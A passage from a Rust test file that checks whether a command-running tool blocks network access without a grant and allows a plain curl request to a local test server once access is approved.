            step["output_tail"]
                .as_str()
                .unwrap()
                .contains("ran with no network"),
            "the output says why the network failed: {step}"
        );
        std::thread::sleep(std::time::Duration::from_millis(200));
        assert_eq!(
            seen.load(Ordering::SeqCst),
            0,
            "{config}: a command nobody granted the network reached the host"
        );

        // Granted the network (the proxy's rule under trusted; a person's
        // `--approve all` for the host's network): the same host is reached.
        let approve = if network.starts_with("[policy]") {
            "all"
        } else {
            "none"
        };
        let events = invoke(
            &home,
            ws.path(),
            approve,
            &format!("curl -sS -f -m 20 http://127.0.0.1:{port}/"),
        );
        let grant = grant_of(&events);
        assert_eq!(grant["network"], true, "{config}: {events:?}");
        assert_eq!(
            of_type(&events, "terminal.step")[0]["exit_code"],
            0,
            "{events:?}"
        );
        assert_eq!(seen.load(Ordering::SeqCst), 1, "{config}");
    }
}
